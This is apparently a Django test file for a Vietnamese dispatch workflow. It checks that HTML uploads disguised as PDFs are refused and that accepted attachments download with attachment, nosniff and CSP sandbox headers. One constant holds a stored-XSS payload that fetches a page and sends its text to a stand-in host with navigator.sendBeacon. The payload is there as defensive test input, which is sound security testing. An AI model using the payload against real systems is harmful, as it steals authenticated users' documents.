"""A dispatch's attachments: only PDF/DOCX/XLSX/ODT by content, and every download served so that no browser
runs it (attachment, nosniff, CSP sandbox) — issue 11, hole 2."""

from __future__ import annotations

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.signing_support import sample_pdf
from workflows.dispatch.flows import DispatchFlow
from workflows.dispatch.models import DispatchAttachment, DispatchProcess

from .conftest import draft_payload

XSS = b"<html><script>fetch('/van-ban-di/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"


def _start_with(client, people, upload):
    client.force_login(people.author)
    payload = {**draft_payload(people), "attachment": upload, "attachment_title": "Phụ lục"}
    return client.post(DispatchFlow.start.reverse("execute"), payload)


def test_an_html_attachment_is_refused_whatever_its_name(client, people):
    for name in ("phu-luc.html", "phu-luc.pdf"):
        response = _start_with(client, people, SimpleUploadedFile(name, XSS, content_type="application/pdf"))
        assert response.status_code == 200
        assert "Chỉ nhận tệp PDF, DOCX, XLSX hoặc ODT" in response.content.decode()
    assert not DispatchAttachment.objects.exists() and not DispatchProcess.objects.exists()


def test_an_accepted_attachment_downloads_as_a_sandboxed_attachment(client, people):
    response = _start_with(client, people, SimpleUploadedFile("phu-luc.html", sample_pdf(), content_type="text/html"))
    assert response.status_code == 302
    attachment = DispatchAttachment.objects.get()
    assert attachment.file.content_type == "application/pdf" and attachment.file.filename == "phu-luc.pdf"
    download = client.get(reverse("dispatch:attachment", args=[attachment.process_id, attachment.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Security-Policy"] == "sandbox"
    assert b"".join(download.streaming_content) == attachment.file.read()
    download.close()
